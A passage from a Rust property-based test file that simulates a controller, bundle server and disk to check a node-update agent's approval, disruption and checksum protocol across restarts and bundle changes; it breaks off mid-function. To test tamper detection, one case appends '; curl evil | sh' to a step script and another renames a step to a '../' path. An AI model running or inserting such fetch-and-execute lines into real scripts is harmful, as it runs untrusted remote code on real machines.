//! Properties of the node agent (`nodemgr_core::agent`) under random schedules: controller
//! answers, failing steps, failed and conflicting requests, refused bundles, restarts from the
//! state files at any point (also in the middle of a step), bundle changes, a deleted Node.
//!
//! A small world plays the API, the bundle server, the disk and the controller, and keeps the
//! truth the properties are checked against (which steps really ran with which disruption key,
//! which bundle the node really runs), independently of the agent's own record.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use nodemgr_core::agent::{
    Agent, AgentAction, AgentConfig, AgentError, AgentInput, AgentStatus, DesiredBundle, NodeView,
    PatchOutcome, StateFiles, StepOutcome,
};
use nodemgr_core::bashible::{Step, configuration_checksum};
use nodemgr_core::model::{Timestamp, keys};
use nodemgr_core::ports::Cause;
use proptest::prelude::*;

/// One move of the schedule.
#[derive(Debug, Clone)]
enum Op {
    /// The driver carries out the agent's next action (or, with none, lets time pass to the
    /// agent's timer); `fault` chooses how a request is answered.
    Drive { fault: u8 },
    /// The controller approves a waiting node.
    Approve,
    /// The controller (or an operator) approves a requested disruption.
    ApproveDisruption,
    /// The controller finishes a node that reports the desired checksum.
    Finish,
    /// Someone else writes the Node (a label, a heartbeat): the agent's next patch conflicts.
    Touch,
    /// The group changes: a new desired bundle.
    ChangeBundle { seed: u64, wake: bool },
    /// The agent process restarts; it is rebuilt from the state files.
    Restart,
    /// The Node is deleted, or registered again.
    ToggleNode,
}

fn op() -> impl Strategy<Value = Op> {
    prop_oneof![
        12 => any::<u8>().prop_map(|fault| Op::Drive { fault }),
        2 => Just(Op::Approve),
        2 => Just(Op::ApproveDisruption),
        1 => Just(Op::Finish),
        1 => Just(Op::Touch),
        1 => (any::<u64>(), any::<bool>()).prop_map(|(seed, wake)| Op::ChangeBundle { seed, wake }),
        1 => Just(Op::Restart),
        1 => Just(Op::ToggleNode),
    ]
}

/// A bundle from a seed: 1–4 of five step names, scripts and disruption keys from small sets
/// (so that keys repeat and change).
fn bundle_of(seed: u64, rolling: bool) -> DesiredBundle {
    let names = [
        "001_ca.sh",
        "010_os.sh",
        "020_cri.sh",
        "030_kubelet.sh",
        "090_cleanup.sh",
    ];
    let mut steps = Vec::new();
    let mut s = seed;
    for name in names {
        let bits = s % 8;
        s /= 8;
        if bits == 0 && !steps.is_empty() {
            continue;
        }
        let mut step = Step::new(name, format!("echo {name} v{}", bits % 3));
        if bits >= 5 {
            step = step.with_disruption_key(format!("k{}", bits % 2));
        }
        steps.push(step);
    }
    DesiredBundle::of_steps(steps, rolling)
}

fn config() -> AgentConfig {
    AgentConfig::new("node-1")
}

struct World {
    now: Timestamp,
    agent: Agent,
    /// The Node: resourceVersion and annotations; `None` when deleted.
    node: Option<(u64, BTreeMap<String, String>)>,
    rv: u64,
    desired: DesiredBundle,
    /// The disk.
    files: StateFiles,
    stored: Option<(String, Vec<Step>)>,
    /// Truth: the disruption key each step last really succeeded with.
    true_keys: BTreeMap<String, String>,
    /// Truth: the bundle whose every step succeeded since the last step of another ran.
    applied: Option<String>,
    /// The bundle whose steps ran last: `succeeded`, `unrecorded` and `finished` are about it.
    running: Option<String>,
    /// Truth: the steps of `running` that succeeded.
    succeeded: BTreeSet<String>,
    /// Steps whose success was handed to the agent but not yet recorded on disk: a restart
    /// before the agent's progress write re-runs them (at least once, as steps are idempotent).
    unrecorded: BTreeSet<String>,
    /// Steps of `running` whose success is recorded (by the agent's progress record, or by the
    /// state the node started with): they must never run again while no step of another
    /// bundle ran — also when the group's bundle moved to another one and back before a step
    /// of that one ran (docs/agent.md, "A bundle changed and changed back"). The one way to
    /// forget them is the agent's commit to another bundle (the progress record about it,
    /// written right before its first step runs) followed by a restart before that step ran:
    /// the rebuilt agent cannot tell whether it ran.
    finished: BTreeSet<String>,
    /// Set by the write of a progress record that starts another bundle (no step of it done):
    /// the agent's next request must be the run of that bundle's first step.
    committing: Option<String>,
    /// Patches that asked for approval, for the deterministic tests.
    asked: usize,
    /// The Node as the agent last saw it (a read, or its own accepted patch) since it last
    /// ran a step or restarted: the approvals a step needs must be on it. (Checking the
    /// world's Node instead would flag the race no agent can close: the Node deleted and
    /// registered again between the read and the run.)
    seen: Option<BTreeMap<String, String>>,
    /// Steps run, for the report.
    runs: usize,
}

impl World {
    fn new(initial: u8, seed: u64, rolling: bool) -> Self {
        let now = Timestamp::from_secs(1_000);
        let first = bundle_of(seed, rolling);
        if std::env::var_os("AGENT_TRACE").is_some() {
            eprintln!("=== new world initial={initial} first={first:?}");
        }
        let keys_of = |b: &DesiredBundle| -> BTreeMap<String, String> {
            b.steps
                .iter()
                .filter_map(|s| s.disruption_key.clone().map(|k| (s.name.clone(), k)))
                .collect()
        };
        let mut annotations = BTreeMap::new();
        let all_steps: BTreeSet<String> = first.steps.iter().map(|s| s.name.clone()).collect();
        let (files, applied, true_keys) = match initial % 3 {
            // Just bootstrapped: only the first-run marker.
            0 => (StateFiles::first_run(), None, BTreeMap::new()),
            // Runs `first`, recorded by the agent.
            1 => {
                annotations.insert(
                    keys::ANNOTATION_CONFIGURATION_CHECKSUM.to_owned(),
                    first.checksum.clone(),
                );
                let done = first.steps.iter().map(|s| s.name.clone()).collect();
                (
                    StateFiles::applied(&first.checksum, done, keys_of(&first)),
                    Some(first.checksum.clone()),
                    keys_of(&first),
                )
            }
            // Runs `first`, written by a bootstrap script: no progress record.
            _ => (
                StateFiles {
                    configuration_checksum: Some(first.checksum.clone()),
                    first_run: false,
                    progress: None,
                },
                Some(first.checksum.clone()),
                keys_of(&first),
            ),
        };
        // A node that runs `first` ran every step of it, and its state files say so (the
        // checksum file, and the progress record when it has one): none may run again before
        // a step of another bundle.
        let (running, succeeded) = match &applied {
            Some(sum) => (Some(sum.clone()), all_steps),
            None => (None, BTreeSet::new()),
        };
        World {
            now,
            agent: Agent::new(config(), files.clone(), now),
            node: Some((1, annotations)),
            rv: 1,
            desired: first,
            files,
            stored: None,
            true_keys,
            applied,
            running,
            finished: succeeded.clone(),
            succeeded,
            unrecorded: BTreeSet::new(),
            committing: None,
            asked: 0,
            seen: None,
            runs: 0,
        }
    }

    fn has(&self, key: &str) -> bool {
        self.node.as_ref().is_some_and(|(_, a)| a.contains_key(key))
    }

    fn write_node(&mut self, f: impl FnOnce(&mut BTreeMap<String, String>)) {
        if let Some((rv, a)) = self.node.as_mut() {
            self.rv += 1;
            *rv = self.rv;
            f(a);
        }
    }

    fn apply(&mut self, op: &Op, cooperative: bool) -> Result<(), TestCaseError> {
        if std::env::var_os("AGENT_TRACE").is_some() && !matches!(op, Op::Drive { .. }) {
            eprintln!("-- {op:?}");
        }
        match op {
            Op::Drive { fault } => self.drive(*fault)?,
            Op::Approve => {
                if self.has(keys::ANNOTATION_WAITING_FOR_APPROVAL) {
                    self.write_node(|a| {
                        a.remove(keys::ANNOTATION_WAITING_FOR_APPROVAL);
                        a.insert(keys::ANNOTATION_APPROVED.into(), String::new());
                    });
                }
            }
            Op::ApproveDisruption => {
                if self.has(keys::ANNOTATION_DISRUPTION_REQUIRED)
                    || self.has(keys::ANNOTATION_ROLLING_UPDATE)
                {
                    self.write_node(|a| {
                        a.remove(keys::ANNOTATION_DISRUPTION_REQUIRED);
                        a.remove(keys::ANNOTATION_ROLLING_UPDATE);
                        a.insert(keys::ANNOTATION_DISRUPTION_APPROVED.into(), String::new());
                    });
                }
            }
            Op::Finish => {
                let desired = self.desired.checksum.clone();
                let done = self.node.as_ref().is_some_and(|(_, a)| {
                    a.get(keys::ANNOTATION_CONFIGURATION_CHECKSUM) == Some(&desired)
                });
                if done {
                    self.write_node(|a| {
                        for k in [
                            keys::ANNOTATION_APPROVED,
                            keys::ANNOTATION_WAITING_FOR_APPROVAL,
                            keys::ANNOTATION_DISRUPTION_REQUIRED,
                            keys::ANNOTATION_DISRUPTION_APPROVED,
                            keys::ANNOTATION_ROLLING_UPDATE,
                        ] {
                            a.remove(k);
                        }
                    });
                }
            }
            Op::Touch => self.write_node(|_| {}),
            Op::ChangeBundle { seed, wake } => {
                self.desired = bundle_of(*seed, self.desired.rolling_update);
                if *wake {
                    self.agent.handle_wake(self.now);
                }
            }
            Op::Restart => self.restart(),
            Op::ToggleNode => {
                if !cooperative {
                    self.node = match self.node.take() {
                        Some(_) => None,
                        None => {
                            self.rv += 1;
                            Some((self.rv, BTreeMap::new()))
                        }
                    };
                }
            }
        }
        Ok(())
    }

    /// Carries out one action of the agent, answering a request at once.
    fn drive(&mut self, fault: u8) -> Result<(), TestCaseError> {
        let Some(action) = self.agent.poll_action() else {
            match self.agent.next_deadline() {
                Some(t) => {
                    self.now = self.now.max(t);
                    self.agent.handle_timeout(self.now);
                }
                None => {
                    self.now = self.now + Duration::from_secs(60);
                    self.agent.handle_wake(self.now);
                }
            }
            return Ok(());
        };
        let now = self.now;
        if std::env::var_os("AGENT_TRACE").is_some() {
            eprintln!("{action} [fault {fault}] node={:?}", self.node);
        }
        if action.is_request()
            && let Some(bundle) = self.committing.take()
        {
            let first_step = matches!(&action, AgentAction::RunStep { .. })
                && self.stored.as_ref().is_some_and(|(c, _)| *c == bundle);
            prop_assert!(
                first_step,
                "the agent started a record of bundle {} but its next request is {} (the old \
                 bundle's record is kept until the new one's first step runs)",
                bundle,
                action
            );
        }
        match action {
            AgentAction::FetchBundle => {
                let answer = match fault % 8 {
                    0 => Err(Cause::msg("connection refused")),
                    1 => {
                        let mut bad = self.desired.clone();
                        if let Some(s) = bad.steps.make_mut().first_mut() {
                            s.script.push_str("; tampered");
                        }
                        Ok(bad)
                    }
                    _ => Ok(self.desired.clone()),
                };
                self.agent.handle_input(AgentInput::Bundle(answer), now);
            }
            AgentAction::ReadNode => {
                let answer = if fault.is_multiple_of(8) {
                    Err(Cause::msg("503 Service Unavailable"))
                } else {
                    Ok(self.node.as_ref().map(|(rv, a)| NodeView {
                        resource_version: rv.to_string(),
                        annotations: a.clone().into(),
                    }))
                };
                if let Ok(view) = &answer {
                    self.seen = view.as_ref().map(|v| v.annotations.clone().into_inner());
                }
                self.agent.handle_input(AgentInput::Node(answer), now);
            }
            AgentAction::PatchNode(patch) => {
                if fault % 8 == 1 {
                    // Someone wrote the Node just before.
                    self.write_node(|_| {});
                }
                let outcome = match self.node.as_mut() {
                    None => PatchOutcome::NotFound,
                    Some(_) if fault.is_multiple_of(8) => {
                        PatchOutcome::Failed(Cause::msg("500 etcd timeout"))
                    }
                    Some((rv, _)) if rv.to_string() != patch.resource_version => {
                        PatchOutcome::Conflict
                    }
                    Some(_) => {
                        if patch
                            .set
                            .contains_key(keys::ANNOTATION_WAITING_FOR_APPROVAL)
                        {
                            self.asked += 1;
                        }
                        if let Some(sum) = patch.set.get(keys::ANNOTATION_CONFIGURATION_CHECKSUM) {
                            prop_assert_eq!(
                                self.applied.as_ref(),
                                Some(sum),
                                "the agent reports checksum {} on its Node but the node does not run it",
                                sum
                            );
                        }
                        self.rv += 1;
                        let rv = self.rv;
                        if let Some((node_rv, a)) = self.node.as_mut() {
                            *node_rv = rv;
                            patch.apply_to(a);
                            self.seen = Some(a.clone());
                        }
                        PatchOutcome::Applied {
                            resource_version: rv.to_string(),
                        }
                    }
                };
                self.agent.handle_input(AgentInput::Patched(outcome), now);
            }
            AgentAction::RunStep { name } => {
                let stored = self.stored.as_ref().map(|(c, _)| c.clone());
                if self.running != stored {
                    // A step of another bundle runs: the node no longer runs the old one.
                    self.running = stored;
                    self.succeeded.clear();
                    self.unrecorded.clear();
                    self.finished.clear();
                }
                self.check_run(&name)?;
                self.seen = None;
                self.runs += 1;
                self.applied = None;
                if fault % 8 == 7 {
                    // Killed in the middle (the agent or the node restarts): it did not finish.
                    self.restart();
                    return Ok(());
                }
                let ok = !fault.is_multiple_of(4);
                if ok {
                    self.step_succeeded(&name);
                }
                self.now = self.now + Duration::from_secs(u64::from(fault % 5));
                self.agent.handle_input(
                    AgentInput::StepFinished(StepOutcome {
                        step: name,
                        exit_code: Some(if ok { 0 } else { 1 }),
                        stderr: "x".repeat(usize::from(fault) * 4),
                    }),
                    self.now,
                );
            }
            AgentAction::StoreBundle { checksum, steps } => {
                prop_assert_eq!(
                    &configuration_checksum(&steps),
                    &checksum,
                    "stored a bundle that does not hash to its checksum"
                );
                self.stored = Some((checksum, steps));
            }
            AgentAction::WriteProgress(p) => {
                let previous = self.files.progress.as_ref().and_then(|r| r.bundle.as_ref());
                if p.bundle.is_some() && p.bundle.as_ref() != previous && p.done.is_empty() {
                    self.committing = p.bundle.clone();
                }
                if p.bundle.is_some() && p.bundle == self.running {
                    let recorded: Vec<String> =
                        self.unrecorded.intersection(&p.done).cloned().collect();
                    for name in recorded {
                        self.unrecorded.remove(&name);
                        self.finished.insert(name);
                    }
                }
                self.files.progress = Some(p);
            }
            AgentAction::WriteChecksumFile(sum) => {
                prop_assert_eq!(
                    self.applied.as_ref(),
                    Some(&sum),
                    "the agent writes checksum {} but the node does not run it",
                    sum
                );
                self.files.configuration_checksum = Some(sum);
            }
            AgentAction::RemoveChecksumFile => self.files.configuration_checksum = None,
            AgentAction::RemoveFirstRun => self.files.first_run = false,
            AgentAction::EmitEvent(e) => {
                prop_assert!(
                    e.note.len() <= 500 + 200,
                    "event note too long: {}",
                    e.note.len()
                );
            }
        }
        Ok(())
    }

    fn restart(&mut self) {
        let record = self.files.progress.as_ref().and_then(|p| p.bundle.as_ref());
        if record.is_some() && record != self.running.as_ref() {
            // The agent committed to another bundle (its record is about it) and stops before
            // that bundle's first step ran: the rebuilt agent cannot know whether it ran, and
            // re-applies whatever bundle is desired then.
            self.finished.clear();
        }
        self.committing = None;
        self.unrecorded.clear();
        self.seen = None;
        self.agent = Agent::new(config(), self.files.clone(), self.now);
    }

    /// Drives without faults until the agent is up to date (at most `limit` moves).
    fn drive_until_up_to_date(&mut self, limit: usize) -> Result<(), TestCaseError> {
        for _ in 0..limit {
            if self.agent.is_up_to_date() {
                return Ok(());
            }
            self.drive(2)?;
        }
        Err(TestCaseError::fail(format!(
            "not up to date: {:?}",
            self.agent.status()
        )))
    }

    /// The properties of running a step.
    fn check_run(&self, name: &str) -> Result<(), TestCaseError> {
        let Some((checksum, steps)) = &self.stored else {
            return Err(TestCaseError::fail(format!(
                "step {name} runs before any bundle is stored"
            )));
        };
        let Some(step) = steps.iter().find(|s| s.name == name) else {
            return Err(TestCaseError::fail(format!(
                "step {name} is not in the stored bundle"
            )));
        };
        let first_run = self.files.first_run;
        prop_assert!(
            self.files.configuration_checksum.is_none(),
            "step {} of {} runs while configuration_checksum says {:?}",
            name,
            checksum,
            self.files.configuration_checksum
        );
        let claimed = self
            .node
            .as_ref()
            .and_then(|(_, a)| a.get(keys::ANNOTATION_CONFIGURATION_CHECKSUM));
        prop_assert!(
            first_run || claimed.is_none(),
            "step {} of {} runs while the Node reports checksum {:?}",
            name,
            checksum,
            claimed
        );
        let seen = |key: &str| self.seen.as_ref().is_some_and(|a| a.contains_key(key));
        prop_assert!(
            first_run || seen(keys::ANNOTATION_APPROVED),
            "step {} of {} runs before the node is approved",
            name,
            checksum
        );
        let disruptive = step
            .disruption_key
            .as_ref()
            .is_some_and(|k| self.true_keys.get(name) != Some(k));
        prop_assert!(
            !disruptive || first_run || seen(keys::ANNOTATION_DISRUPTION_APPROVED),
            "disruptive step {} runs before the disruption is approved (key {:?}, truly ran with {:?}, record {:?}, seen {:?})",
            name,
            step.disruption_key,
            self.true_keys.get(name),
            self.files.progress,
            self.seen
        );
        prop_assert!(
            !self.finished.contains(name),
            "step {} of {} runs again although it finished",
            name,
            checksum
        );
        let mut names: Vec<&str> = steps.iter().map(|s| s.name.as_str()).collect();
        names.sort_unstable();
        for earlier in names.iter().take_while(|n| **n < name) {
            prop_assert!(
                self.succeeded.contains(*earlier),
                "step {} runs before {} finished (lexical order)",
                name,
                earlier
            );
        }
        Ok(())
    }

    fn step_succeeded(&mut self, name: &str) {
        let Some((checksum, steps)) = &self.stored else {
            return;
        };
        self.succeeded.insert(name.to_owned());
        self.unrecorded.insert(name.to_owned());
        match steps
            .iter()
            .find(|s| s.name == name)
            .and_then(|s| s.disruption_key.clone())
        {
            Some(k) => self.true_keys.insert(name.to_owned(), k),
            None => self.true_keys.remove(name),
        };
        if steps.iter().all(|s| self.succeeded.contains(&s.name)) {
            self.applied = Some(checksum.clone());
        }
    }

    /// No more faults, a cooperative controller: the agent must reach the desired bundle and
    /// report it (a lost request would leave it waiting for an answer that never comes).
    fn settle(&mut self) -> Result<(), TestCaseError> {
        if self.node.is_none() {
            self.rv += 1;
            self.node = Some((self.rv, BTreeMap::new()));
        }
        self.agent.handle_wake(self.now);
        for _ in 0..2_000 {
            if self.agent.is_up_to_date() {
                if self.files.configuration_checksum.as_ref() == Some(&self.desired.checksum) {
                    break;
                }
                // Up to date with a bundle fetched before the last change: the driver's
                // watch sees the change and wakes it.
                self.agent.handle_wake(self.now);
            }
            self.apply(&Op::Approve, true)?;
            self.apply(&Op::ApproveDisruption, true)?;
            self.apply(&Op::Drive { fault: 2 }, true)?;
        }
        let desired = self.desired.checksum.clone();
        prop_assert!(
            self.agent.is_up_to_date(),
            "the agent did not converge: {:?}, node {:?}",
            self.agent.status(),
            self.node
        );
        prop_assert_eq!(self.files.configuration_checksum.as_ref(), Some(&desired));
        prop_assert_eq!(
            self.node
                .as_ref()
                .and_then(|(_, a)| a.get(keys::ANNOTATION_CONFIGURATION_CHECKSUM)),
            Some(&desired)
        );
        prop_assert_eq!(self.applied.as_ref(), Some(&desired));
        prop_assert!(!self.files.first_run);
        Ok(())
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Under any schedule: no step before `approved` (first run aside), no disruptive step
    /// before `disruption-approved` (first run aside), no checksum reported (annotation or
    /// file) that the node does not run, no checksum left reported (annotation, first run
    /// aside, or file) while a step runs, no recorded step run again before a step of another
    /// bundle ran — across restarts, and across a change of the group's bundle and back
    /// (`World::finished` has the one exception: a restart right after the agent committed to
    /// another bundle) — steps in lexical order; and once the faults stop, the agent
    /// converges (no request was lost to a conflict or a failed patch).
    #[test]
    fn agent_keeps_the_protocol_under_random_schedules(
        initial in any::<u8>(),
        seed in any::<u64>(),
        rolling in any::<bool>(),
        ops in prop::collection::vec(op(), 1..300),
    ) {
        let mut world = World::new(initial, seed, rolling);
        for op in &ops {
            world.apply(op, false)?;
        }
        world.settle()?;
    }

    /// A node that is not on its first run asks for approval before anything else, and waits
    /// for it however long it takes: without an answer no step ever runs.
    #[test]
    fn without_approval_nothing_runs(seed in any::<u64>(), other in any::<u64>(), faults in prop::collection::vec(any::<u8>(), 1..200)) {
        let mut world = World::new(1, seed, false);
        world.desired = bundle_of(other, false);
        for fault in faults {
            world.drive(fault)?;
        }
        prop_assert_eq!(world.runs, 0);
        if world.desired.checksum != bundle_of(seed, false).checksum {
            prop_assert!(!world.agent.is_up_to_date());
        }
    }
}

#[test]
fn a_first_run_applies_without_asking() {
    let mut world = World::new(0, 7, false);
    world.drive_until_up_to_date(100).expect("converges");
    assert!(world.agent.is_up_to_date(), "{:?}", world.agent.status());
    assert!(!world.has(keys::ANNOTATION_WAITING_FOR_APPROVAL));
    assert!(!world.files.first_run);
    assert_eq!(
        world.files.configuration_checksum.as_deref(),
        Some(world.desired.checksum.as_str())
    );
}

#[test]
fn an_up_to_date_node_only_reannotates() {
    let mut world = World::new(1, 7, false);
    world.write_node(|a| {
        a.remove(keys::ANNOTATION_CONFIGURATION_CHECKSUM);
    });
    world.drive_until_up_to_date(20).expect("converges");
    assert!(world.agent.is_up_to_date());
    assert_eq!(world.runs, 0);
    assert!(world.has(keys::ANNOTATION_CONFIGURATION_CHECKSUM));
}

/// Where the agent is when the group's bundle moves back in [`flap`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum FlapAt {
    /// It asked for approval of the new bundle.
    WaitingForApproval,
    /// The controller approved, and it asked for the disruption the new bundle's first step
    /// needs.
    WaitingForDisruption,
}

/// The node runs bundle `a` (every step recorded); the group's bundle moves to `b` and back
/// to `a` while the agent waits at `at` (restarted there when `restart`). Returns the world
/// after the agent settled back at `a`, and how many approvals it had asked for before the
/// change back.
fn flap(
    a: &DesiredBundle,
    b: &DesiredBundle,
    at: FlapAt,
    restart: bool,
) -> Result<(World, usize), TestCaseError> {
    let mut world = World::new(1, 0, false);
    world.desired = a.clone();
    world.agent = Agent::new(config(), StateFiles::default(), world.now);
    let all: BTreeSet<String> = a.steps.iter().map(|s| s.name.clone()).collect();
    let keys: BTreeMap<String, String> = a
        .steps
        .iter()
        .filter_map(|s| s.disruption_key.clone().map(|k| (s.name.clone(), k)))
        .collect();
    world.files = StateFiles::applied(&a.checksum, all.clone(), keys.clone());
    world.node = Some((
        1,
        [(
            keys::ANNOTATION_CONFIGURATION_CHECKSUM.to_owned(),
            a.checksum.clone(),
        )]
        .into(),
    ));
    world.true_keys = keys;
    world.applied = Some(a.checksum.clone());
    world.running = Some(a.checksum.clone());
    world.succeeded = all.clone();
    world.finished = all;
    world.agent = Agent::new(config(), world.files.clone(), world.now);
    world.drive_until_up_to_date(20)?;

    // The group moves to b: the agent asks for approval, and (for a disruptive first step)
    // for the disruption once approved.
    world.desired = b.clone();
    world.agent.handle_wake(world.now);
    for _ in 0..40 {
        let waiting = match at {
            FlapAt::WaitingForApproval => {
                matches!(world.agent.status(), AgentStatus::WaitingForApproval { .. })
            }
            FlapAt::WaitingForDisruption => matches!(
                world.agent.status(),
                AgentStatus::WaitingForDisruptionApproval { .. }
            ),
        };
        // Waiting, and polling: the request was made and answered.
        if waiting && world.agent.next_deadline().is_some() {
            break;
        }
        if at == FlapAt::WaitingForDisruption {
            world.apply(&Op::Approve, true)?;
        }
        world.drive(2)?;
    }
    assert_eq!(world.runs, 0, "a step of b ran before the change back");
    assert_eq!(world.asked, 1, "{:?}", world.agent.status());
    // Nothing the node or its Node say about a has changed yet.
    assert_eq!(
        world.files.configuration_checksum.as_deref(),
        Some(a.checksum.as_str())
    );
    assert_eq!(
        world
            .files
            .progress
            .as_ref()
            .and_then(|p| p.bundle.as_deref()),
        Some(a.checksum.as_str())
    );
    assert_eq!(
        world
            .node
            .as_ref()
            .and_then(|(_, n)| n.get(keys::ANNOTATION_CONFIGURATION_CHECKSUM).cloned()),
        Some(a.checksum.clone())
    );
    if restart {
        world.restart();
    }

    // Back to a: the agent sees the node runs it; the controller, seeing the checksum it
    // wants, finishes the node. Drive with a cooperative controller that would approve
    // anything asked: nothing is asked, nothing runs.
    let asked = world.asked;
    world.desired = a.clone();
    world.agent.handle_wake(world.now);
    for _ in 0..200 {
        world.apply(&Op::Finish, true)?;
        world.apply(&Op::Approve, true)?;
        world.apply(&Op::ApproveDisruption, true)?;
        world.drive(2)?;
    }
    Ok((world, asked))
}

/// Two bundles for [`flap`]: `a`, and `b` whose first step needs a disruption on a node that
/// runs `a`.
fn flapping_bundles() -> Option<(DesiredBundle, DesiredBundle)> {
    let a = bundle_of(0, false);
    let first_key = |b: &DesiredBundle| b.steps.first().and_then(|s| s.disruption_key.clone());
    let b = (1..).map(|seed| bundle_of(seed, false)).find(|b| {
        first_key(b).is_some() && first_key(b) != first_key(&a) && b.checksum != a.checksum
    })?;
    Some((a, b))
}

/// The group's bundle moves from the one the node runs to another and back before a step
/// of the other ran (docs/agent.md, "A bundle changed and changed back before it started"):
/// the agent asks for no approval again and runs no step; the node keeps its checksum file,
/// its progress record and its Node's checksum annotation throughout, and the controller
/// finishes it. Also when the agent restarts in the middle, and when it waits for the
/// disruption of the other bundle's first step.
#[test]
fn a_bundle_changed_and_changed_back_before_it_started_is_not_applied_again() {
    let (a, b) = flapping_bundles().expect("two bundles");
    for at in [FlapAt::WaitingForApproval, FlapAt::WaitingForDisruption] {
        for restart in [false, true] {
            let (world, asked) = flap(&a, &b, at, restart).expect("the flap");
            let case = format!("{at:?}, restart {restart}");
            assert_eq!(world.runs, 0, "{case}: a step ran again");
            assert_eq!(world.asked, asked, "{case}: approval asked again");
            assert!(
                world.agent.is_up_to_date(),
                "{case}: {:?}",
                world.agent.status()
            );
            assert_eq!(
                world.files.configuration_checksum.as_deref(),
                Some(a.checksum.as_str()),
                "{case}"
            );
            let node = world
                .node
                .as_ref()
                .map(|(_, n)| n.clone())
                .unwrap_or_default();
            assert_eq!(
                node.get(keys::ANNOTATION_CONFIGURATION_CHECKSUM),
                Some(&a.checksum),
                "{case}"
            );
            // The controller finished the node: no update mark is left.
            for key in [
                keys::ANNOTATION_WAITING_FOR_APPROVAL,
                keys::ANNOTATION_APPROVED,
                keys::ANNOTATION_DISRUPTION_REQUIRED,
            ] {
                assert!(!node.contains_key(key), "{case}: {key} left on {node:?}");
            }
        }
    }
}

/// After the change back, the bundle that was abandoned before it started is applied as any
/// new bundle when the group moves to it again: approval, disruption, every step, report.
#[test]
fn a_bundle_abandoned_before_it_started_is_applied_when_it_comes_back() {
    let (a, b) = flapping_bundles().expect("two bundles");
    let (mut world, _) = flap(&a, &b, FlapAt::WaitingForDisruption, true).expect("the flap");
    world.desired = b.clone();
    world.settle().expect("converges to b");
    assert_eq!(world.runs, b.steps.len());
}

/// What a bundle server (or something between it and the node) may hand out, derived from the
/// group's bundle: for the property comparing the agent that skips verifying a bundle it
/// verified last with the one that hashes every fetch.
#[derive(Debug, Clone)]
enum Fetched {
    /// The group's bundle.
    Same,
    /// A step's script altered, the published checksum kept.
    Tampered,
    /// A step's disruption key altered, the checksum kept.
    KeyChanged,
    /// The steps in reverse order, the checksum kept (it hashes the original order).
    Reversed,
    /// The steps in reverse order with the checksum of that order (valid, unsorted).
    ReversedResigned,
    /// The steps in name order with the checksum of their reverse order.
    SortedUnderReversedChecksum,
    /// A step twice, re-signed.
    Duplicated,
    /// A step renamed to a path, re-signed.
    BadName,
    /// The same steps and checksum, the other approval mode.
    Rolling,
    /// Another valid bundle.
    Other(u64),
    /// The fetch fails.
    Error,
}

fn fetched_kind() -> impl Strategy<Value = Fetched> {
    prop_oneof![
        6 => Just(Fetched::Same),
        1 => Just(Fetched::Tampered),
        1 => Just(Fetched::KeyChanged),
        1 => Just(Fetched::Reversed),
        1 => Just(Fetched::ReversedResigned),
        1 => Just(Fetched::SortedUnderReversedChecksum),
        1 => Just(Fetched::Duplicated),
        1 => Just(Fetched::BadName),
        1 => Just(Fetched::Rolling),
        1 => any::<u64>().prop_map(Fetched::Other),
        1 => Just(Fetched::Error),
    ]
}

fn fetched(base: &DesiredBundle, kind: &Fetched) -> Result<DesiredBundle, Cause> {
    let mut b = base.clone();
    let resign = |b: &mut DesiredBundle| b.checksum = configuration_checksum(&b.steps);
    match kind {
        Fetched::Same => {}
        Fetched::Tampered => {
            if let Some(s) = b.steps.make_mut().last_mut() {
                s.script.push_str("; curl evil | sh");
            }
        }
        Fetched::KeyChanged => {
            if let Some(s) = b.steps.make_mut().first_mut() {
                s.disruption_key = Some(format!("{:?}-changed", s.disruption_key));
            }
        }
        Fetched::Reversed => b.steps.make_mut().reverse(),
        Fetched::ReversedResigned => {
            b.steps.make_mut().reverse();
            resign(&mut b);
        }
        Fetched::SortedUnderReversedChecksum => {
            let mut reversed = b.steps.to_vec();
            reversed.reverse();
            b.checksum = configuration_checksum(&reversed);
        }
        Fetched::Duplicated => {
            if let Some(s) = b.steps.first().cloned() {
                b.steps.make_mut().push(s);
            }
            resign(&mut b);
        }
        Fetched::BadName => {
            if let Some(s) = b.steps.make_mut().first_mut() {
                s.name = format!("../{}", s.name);
            }
            resign(&mut b);
        }
        Fetched::Rolling => b.rolling_update = !b.rolling_update,
        Fetched::Other(seed) => b = bundle_of(*seed, b.rolling_update),
        Fetched::Error => return Err(Cause::msg("connection reset")),
    }
    Ok(b)
}

/// One move of the comparison: the next fetch hands out `fetch`; `fault` decides a step's
/// exit status and whether the controller approves before the move.
#[derive(Debug, Clone)]
struct Move {
    fetch: Fetched,
    fault: u8,
}

fn a_move() -> impl Strategy<Value = Move> {
    (fetched_kind(), any::<u8>()).prop_map(|(fetch, fault)| Move { fetch, fault })
}

/// The observable state of an agent, compared after every input.
fn observed(agent: &Agent) -> String {
    format!(
        "{:?} | {:?} | {:?} | {:?} | {}",
        agent.status(),
        agent.next_deadline(),
        agent.last_error(),
        agent.files(),
        agent.is_up_to_date()
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// The agent that does not hash again a bundle it verified last decides exactly as the
    /// one that hashes every fetch, whatever is fetched: the same bundle again, one altered
    /// under the same checksum (a script, a disruption key, the order of the steps), one
    /// re-signed with bad names, another approval mode, another bundle, a failed fetch. Same
    /// actions, statuses, timers, errors and state files at every move; in particular an
    /// altered bundle is refused after a verified one with the same checksum.
    #[test]
    fn skipping_the_hash_of_the_bundle_verified_last_changes_nothing(
        seed in any::<u64>(),
        rolling in any::<bool>(),
        initial in 0u8..3,
        moves in prop::collection::vec(a_move(), 1..200),
    ) {
        let base = bundle_of(seed, rolling);
        let files = match initial {
            0 => StateFiles::first_run(),
            1 => StateFiles::applied("older", BTreeSet::new(), BTreeMap::new()),
            _ => StateFiles::applied(&base.checksum, BTreeSet::new(), BTreeMap::new()),
        };
        let mut now = Timestamp::from_secs(1_000);
        let mut skipping = Agent::new(config(), files.clone(), now);
        let mut hashing = Agent::new(
            AgentConfig { verify_every_fetch: true, ..config() },
            files,
            now,
        );
        let mut annotations: BTreeMap<String, String> = BTreeMap::new();
        let mut rv = 1u64;
        for m in &moves {
            if m.fault % 3 == 0 {
                rv += 1;
                annotations.insert(keys::ANNOTATION_APPROVED.to_owned(), String::new());
                annotations.insert(keys::ANNOTATION_DISRUPTION_APPROVED.to_owned(), String::new());
            }
            let action = skipping.poll_action();
            prop_assert_eq!(&action, &hashing.poll_action());
            let input = match action {
                None => {
                    match skipping.next_deadline() {
                        Some(t) => {
                            now = now.max(t);
                            skipping.handle_timeout(now);
